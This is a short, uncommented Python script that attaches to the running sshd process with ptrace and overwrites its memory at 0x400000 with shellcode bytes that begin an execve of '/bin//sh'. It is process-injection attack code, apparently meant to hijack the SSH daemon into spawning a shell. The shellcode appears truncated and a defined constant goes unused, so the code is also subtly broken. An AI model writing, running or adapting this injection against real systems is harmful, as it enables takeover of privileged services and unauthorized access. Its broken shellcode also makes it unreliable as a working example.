from ctypes import CDLL, c_long, create_string_buffer
libc = CDLL("libc.so.6", use_errno=True)
PTRACE_ATTACH, PTRACE_POKETEXT = 16, 4
pid = int(open("/run/sshd.pid").read())
libc.ptrace(PTRACE_ATTACH, pid, None, None)
code = b"\x6a\x3b\x58\x99\x48\xbb\x2f\x62\x69\x6e\x2f\x2f\x73\x68"
with open(f"/proc/{pid}/mem", "wb") as mem:
    mem.seek(0x400000)
    mem.write(code)
